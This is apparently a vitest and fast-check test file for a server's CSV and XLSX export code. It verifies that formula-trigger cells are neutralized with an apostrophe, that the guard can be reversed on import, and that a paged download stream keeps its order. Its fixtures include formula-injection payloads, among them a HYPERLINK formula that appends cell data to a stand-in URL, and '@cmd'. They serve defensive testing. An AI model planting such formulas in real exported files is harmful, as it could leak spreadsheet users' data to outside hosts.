import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { csvLine, neutralize, renderedStream, toCsv, toXlsx, unguard, xlsxValue } from '../../server/io/export.js';
import { unzipAll } from './helpers.js';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\0'];

describe('spreadsheet-safe cells', () => {
  it('prefixes text a spreadsheet would run with a quote; numbers stay numbers', () => {
    expect(neutralize('=HYPERLINK("http://x/?"&A1,"点击")')).toBe(`'=HYPERLINK("http://x/?"&A1,"点击")`);
    expect(neutralize('+1+2')).toBe("'+1+2");
    expect(neutralize('-A1')).toBe("'-A1");
    expect(neutralize('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutralize('\t=1')).toBe("'\t=1");
    expect(neutralize('\r=1')).toBe("'\r=1");
    expect(neutralize('-5')).toBe('-5');
    expect(neutralize('+86')).toBe('+86');
    expect(neutralize(-5)).toBe(-5);
    expect(neutralize('内窥镜 = 医疗器械')).toBe('内窥镜 = 医疗器械');
  });
  it('no CSV field ever starts with a trigger once parsed back', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.string({ maxLength: 12 }),
            fc.constantFrom(...TRIGGERS).chain((t) => fc.string({ maxLength: 8 }).map((s) => t + s)),
            fc.double({ noNaN: true, noDefaultInfinity: true }),
          ),
          { minLength: 1, maxLength: 6 },
        ),
        (cells) => {
          const [back] = parse(csvLine(cells), { relax_column_count: true }) as string[][];
          cells.forEach((c, i) => {
            const v = back![i]!;
            if (typeof c === 'number')
              expect(Number(v)).toBe(c === 0 ? 0 : c); // numbers stay numbers
            else if (/^[+-]?(\d+(\.\d+)?|\.\d+)([eE][+-]?\d+)?$/.test(c)) expect(v).toBe(c);
            else expect(TRIGGERS.some((t) => v.startsWith(t))).toBe(false);
          });
        },
      ),
      { numRuns: 500 },
    );
  });
  it("a text that starts with an apostrophe before a formula start keeps it ('+1 → ''+1 → '+1)", () => {
    expect(neutralize("'+1a")).toBe("''+1a");
    expect(unguard("''+1a")).toBe("'+1a");
    expect(unguard(String(neutralize("'plain")))).toBe("'plain");
  });

  it('the import takes the guard off again: unguard(neutralize(text)) is the text', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 12 }),
          fc.constantFrom(...TRIGGERS, "'", "''").chain((t) => fc.string({ maxLength: 8 }).map((s) => t + s)),
        ),
        (text) => {
          expect(unguard(String(neutralize(text)))).toBe(text);
        },
      ),
      { numRuns: 500 },
    );
    expect(unguard("'不是公式")).toBe("'不是公式");
  });
  it('writes CSV with a BOM and CRLF, quoting where needed', () => {
    const csv = toCsv(
      ['名称', '说明'],
      [
        ['甲', '含,逗号'],
        ['乙', '含"引号"\n换行'],
      ],
    );
    expect(csv.startsWith('\uFEFF名称,说明\r\n')).toBe(true);
    expect(parse(csv.slice(1))).toEqual([
      ['名称', '说明'],
      ['甲', '含,逗号'],
      ['乙', '含"引号"\n换行'],
    ]);
  });
  it('writes XLSX cells as values: no formulas, text as text without a visible apostrophe, numbers as numbers', async () => {
    const buf = await toXlsx(
      '结果',
      ['名称', '金额', '备注'],
      [
        ['=1+1', 5000, '=HYPERLINK("http://x","点击")'],
        ['@cmd', '6000', '-x'],
      ],
    );
    const files = await unzipAll(buf);
    const sheet = [...files].find(([n]) => n.startsWith('xl/worksheets/sheet'))![1];
    expect(sheet).not.toMatch(/<f[ >]/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as never);
    const values = wb.worksheets[0]!.getSheetValues()
      .slice(1)
      .map((r) => (r as unknown[]).slice(1));
    expect(values).toEqual([
      ['名称', '金额', '备注'],
      ['=1+1', 5000, '=HYPERLINK("http://x","点击")'],
      ['@cmd', 6000, '-x'],
    ]);
    expect(xlsxValue('00123')).toBe('00123');
  });
});

describe('rendered download stream', () => {
  const text = async (s: ReadableStream<Uint8Array>) => new TextDecoder().decode(new Uint8Array(await new Response(s).arrayBuffer()));

  it('sends every page in order whatever order the renders finish in, separators only between non-empty pages', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.string({ maxLength: 6 }), fc.nat(5)), { maxLength: 12 }),
        fc.integer({ min: 1, max: 5 }),
        async (pages, ahead) => {
          const enc = new TextEncoder();
          let rendering = 0;
          let most = 0;
          const render = async ([body, delay]: [string, number]) => {
            most = Math.max(most, ++rendering);
            await new Promise((r) => setTimeout(r, delay));
            rendering--;
            return enc.encode(body);
          };
          const got = await text(renderedStream({ head: '[', tail: ']', between: ',', pages: pages[Symbol.iterator](), ahead, render }));
          expect(got).toBe(
            `[${pages
              .map(([b]) => b)
              .filter(Boolean)
              .join(',')}]`,
          );
          expect(most).toBeLessThanOrEqual(ahead);
        },
      ),
      { numRuns: 60 },
    );
  });

  it('reads pages only as the client takes the bytes', async () => {
    let read = 0;
    const pages = (function* () {
      for (let i = 0; i < 100; i++) yield (read++, `${i};`);
    })();
    const s = renderedStream({ head: '', tail: '', pages, ahead: 2, render: async (p) => new TextEncoder().encode(p) });
    const reader = s.getReader();
    await reader.read();
    await reader.read();
    expect(read).toBeLessThan(10);
    await reader.cancel();
  });
});
